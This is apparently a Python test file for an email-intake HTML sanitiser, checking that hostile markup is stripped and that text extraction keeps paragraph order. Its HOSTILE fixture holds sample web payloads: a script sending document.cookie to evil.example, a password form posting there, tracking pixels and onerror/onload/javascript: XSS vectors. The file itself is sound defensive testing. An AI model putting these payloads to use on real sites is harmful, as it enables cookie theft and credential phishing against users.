"""HTML bodies: readable text, and sanitised HTML that cannot run code or fetch anything."""

from __future__ import annotations

from triage.intake.html_text import html_to_text, sanitise_html

HOSTILE = """<html><head>
<style>body { background: url(http://evil.example/bg.png) }</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<script>document.location='http://evil.example/?c='+document.cookie</script>
</head><body onload="steal()">
<p style="background-image: url('http://evil.example/p.png')">Dear SEND team,</p>
<img src="http://tracker.example/open.gif" onerror="alert(1)" alt="pixel">
<img src="https://tracker.example/open2.gif">
<img src="cid:logo@example.org" alt="logo">
<form action="http://evil.example/login"><input name="password"><button>Log in</button></form>
<iframe src="http://evil.example/frame"></iframe>
<a href="javascript:alert(1)">click</a>
<a href="https://www.example.org/guide" target="_blank">the guide</a>
<svg onload="alert(2)"><circle r="1"/></svg>
</body></html>"""


def test_hostile_html_is_neutralised():
    cleaned = sanitise_html(HOSTILE)
    assert cleaned is not None
    lowered = cleaned.lower()
    for banned in ("<script", "onerror", "onload", "<form", "<input", "<iframe", "<style", "<link",
                   "url(", "style=", "javascript:", "tracker.example", "evil.example", "<svg"):
        assert banned not in lowered, banned
    assert "Dear SEND team," in cleaned
    assert 'href="https://www.example.org/guide"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned
    assert 'src="cid:logo@example.org"' in cleaned


def test_empty_html():
    assert sanitise_html("   ") is None
    assert html_to_text("") == ""


def test_html_to_text_keeps_structure_and_drops_scripts():
    text = html_to_text("<p>First para</p><p>Second&nbsp;para</p><ul><li>one</li><li>two</li></ul><script>x()</script>")
    assert "First para" in text and "Second para" in text
    assert "x()" not in text
    assert text.index("First") < text.index("Second") < text.index("one") < text.index("two")


def test_broken_html_still_gives_text():
    assert "unclosed" in html_to_text("<div><p>unclosed <b>tags <table><tr><td>cell")
